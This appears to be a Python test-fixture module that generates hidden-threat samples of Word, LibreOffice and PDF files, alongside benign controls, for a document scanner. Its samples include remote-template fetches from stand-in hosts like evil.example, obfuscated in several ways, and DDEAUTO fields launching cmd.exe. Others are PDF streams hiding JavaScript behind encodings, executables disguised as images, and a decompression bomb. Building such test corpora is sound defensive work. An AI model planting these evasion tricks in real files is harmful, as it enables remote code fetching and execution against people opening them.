"""Whole files of Word, LibreOffice and PDF that fetch, start or carry something, well hidden."""

from __future__ import annotations

import zlib
from collections.abc import Callable

from tests.campaigns.dossier.files import pdf, text
from tests.campaigns.dossier.hostile import HTML, word_with

KINDS_OF_TIES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


def tied(kind: str, target: str, *, outside: bool = True, encoding: str = "utf-8") -> bytes:
    """A Word file with one relationship."""
    mode = ' TargetMode="External"' if outside else ""
    ties = (
        f'<?xml version="1.0" encoding="{encoding}"?><Relationships><Relationship Id="r1" '
        f'Type="{KINDS_OF_TIES}{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return word_with(("word/_rels/document.xml.rels", ties.encode(encoding)))


def saying(*instructions: str) -> bytes:
    """A Word file with a field whose instruction is cut into these runs."""
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions)
    return word_with(("word/footer1.xml", f"<w:p>{runs}</w:p>".encode()))


def written(content: str) -> bytes:
    """A text of LibreOffice with this in its styles."""
    return text({"styles.xml": f"<office:styles>{content}</office:styles>".encode()})


def packing(head: bytes, body: bytes) -> bytes:
    """A PDF with a stream of objects."""
    return pdf(b"4 0 obj\n<<" + head + b"/N 1/First 0>>stream\n" + body + b"\nendstream\nendobj\n")


def _broken_behind() -> bytes:
    packer = zlib.compressobj()
    good = packer.compress(SCRIPT + bytes(200_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return good + b"\xff" * 40


INSIDE: dict[str, Callable[[], bytes]] = {
    "a template of a server": lambda: tied("attachedTemplate", "file:///\\\\evil.example\\a.dotm"),
    "a template of a share": lambda: tied("attachedTemplate", "\\\\evil.example\\s\\a.dotm"),
    "a template behind five slashes": lambda: tied("attachedTemplate", "file://///evil/a.dotm"),
    "a template behind escapes": lambda: tied("attachedTemplate", "file:///%5C%5Cevil/a.dotm"),
    "a template of no scheme": lambda: tied("attachedTemplate", "//evil.example/a.dotm"),
    "a template by an entity": lambda: tied("attachedTemplate", "&#104;ttps://evil/a.dotm"),
    "a template behind a space": lambda: tied("attachedTemplate", " https://evil/a.dotm"),
    "a kind by an entity": lambda: tied("attachedTem&#112;late", "https://evil/a.dotm"),
    "two bytes a letter": lambda: tied("frame", "https://evil/a.htm", encoding="utf-16"),
    "a picture that is counted": lambda: tied("image", "https://evil.example/pixel.png"),
    "a page taken into the text": lambda: tied("aFChunk", "/word/a.xml", outside=False),
    "ties that are broken": lambda: word_with(("_rels/.rels", b"<Relationships>")),
    "a DTD in two bytes a letter": lambda: word_with(
        ("_rels/.rels", '<?xml version="1.0"?><!DOCTYPE a><a/>'.encode("utf-16"))
    ),
    "a field that starts a program": lambda: saying("DDEAUTO c:\\\\windows\\\\cmd.exe"),
    "the same cut in two": lambda: saying("DD", "EAUTO c:\\\\windows\\\\cmd.exe"),
    "a picture by a field": lambda: saying(' INCLUDEPICTURE "https://evil/a.png" \\d '),
    "a text by a field": lambda: saying("INCLUDE", "TEXT \\\\evil\\a.docx"),
    "a program among the pictures": lambda: word_with(("word/media/image1.png", b"MZ\x90\0")),
    "an archive among the pictures": lambda: word_with(("word/media/image1.png", b"PK\x03\x04")),
    "a web page": lambda: word_with(("word/a.xml", HTML.replace(b"<!DOCTYPE html>", b""))),
    "a counted picture, odt": lambda: written('<draw:image xlink:href="https://evil/a.png"/>'),
    "a text of a server, odt": lambda: written('<text:s xlink:href="file://evil/a.odt"/>'),
    "a listener, odt": lambda: written('<s:event-listener xlink:href="vnd.sun.star.script:x"/>'),
    "a program asked, odt": lambda: written('<text:dde-connection-decl office:name="x"/>'),
    "objects by an escaped name": lambda: packing(
        b"/Type/Obj#53tm/Filter/FlateDecode", zlib.compress(SCRIPT)
    ),
    "objects behind a long name": lambda: packing(
        b"/Type/ObjStm/X(" + b"a" * 3_000 + b")/Filter/FlateDecode", zlib.compress(SCRIPT)
    ),
    "objects in hex": lambda: packing(
        b"/Type/ObjStm/Filter/ASCIIHexDecode", SCRIPT.hex().encode() + b">"
    ),
    "objects packed twice": lambda: packing(
        b"/Type/ObjStm/Filter[/AHx/Fl]", zlib.compress(SCRIPT).hex().encode() + b">"
    ),
    "objects told by their differences": lambda: packing(
        b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>", zlib.compress(SCRIPT)
    ),
    "objects that break off": lambda: packing(b"/Type/ObjStm/Filter/FlateDecode", _broken_behind()),
    "objects behind very many": lambda: packing(
        b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(bytes(60_000_000))
    ),
    "a file of another kind, pdf": lambda: pdf(b"4 0 obj\n<</Type/Filespec/EF<</F 5 0 R>>>>\n"),
}
# What offices write every day and waits for a click, or lies on the same machine.
CALM: dict[str, Callable[[], bytes]] = {
    "a link": lambda: tied("hyperlink", "https://moha.gov.vn/"),
    "the own template": lambda: tied("attachedTemplate", "file:///C:\\Users\\Hoa\\Normal.dotm"),
    "a template of Linux": lambda: tied("attachedTemplate", "file:///home/hoa/Normal.dotm"),
    "a picture beside it": lambda: tied("image", "media/image1.png"),
    "page numbers": lambda: saying("PAGE \\* MERGEFORMAT"),
    "a picture of the same machine": lambda: saying('INCLUDEPICTURE "C:\\\\a.png"'),
    "a text with the word": lambda: word_with(("word/a.xml", b"<w:t>instr DDE</w:t>")),
    "a link, odt": lambda: written('<text:a xlink:href="https://moha.gov.vn/">x</text:a>'),
    "a picture, odt": lambda: written('<draw:image xlink:href="Pictures/1.png"/>'),
    "keys nobody changed, odt": lambda: text({"Configurations2/accelerator/current.xml": b""}),
    "packed objects": lambda: packing(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"<<>>")),
    "a signature": lambda: pdf(b"4 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>>>\n"),
}
